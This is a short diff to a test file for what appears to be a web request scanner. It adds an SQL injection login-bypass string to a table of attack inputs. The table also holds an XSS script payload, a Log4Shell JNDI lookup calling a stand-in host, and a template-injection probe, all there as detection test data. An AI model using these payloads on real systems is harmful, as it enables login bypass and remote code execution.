@@ -399,7 +399,7 @@ test("a password or secret field is still read for the attacks such a field is s
   // The login bypass in the password field, as JSON and as a form; markup, lookups and templates in a key field.
   for (const [body, attack] of [
     [JSON.stringify({ username: "admin", password: "' or '1'='1" }), "sqli"], [JSON.stringify({ password: "'or'1'='1" }), "sqli"],
-    [JSON.stringify({ password: "admin' -- " }), "sqli"], [JSON.stringify({ password: "<script>alert(1)</script>" }), "xss"],
+    [JSON.stringify({ password: "admin' -- " }), "sqli"], [JSON.stringify({ password: "admin' #" }), "sqli"], [JSON.stringify({ password: "<script>alert(1)</script>" }), "xss"],
     [JSON.stringify({ api_key: "${jndi:ldap://x.example/a}" }), "jndi"], [JSON.stringify({ password: "{{7*7}}" }), "ssti"],
   ] as const) {
     const r = scanJson(body);
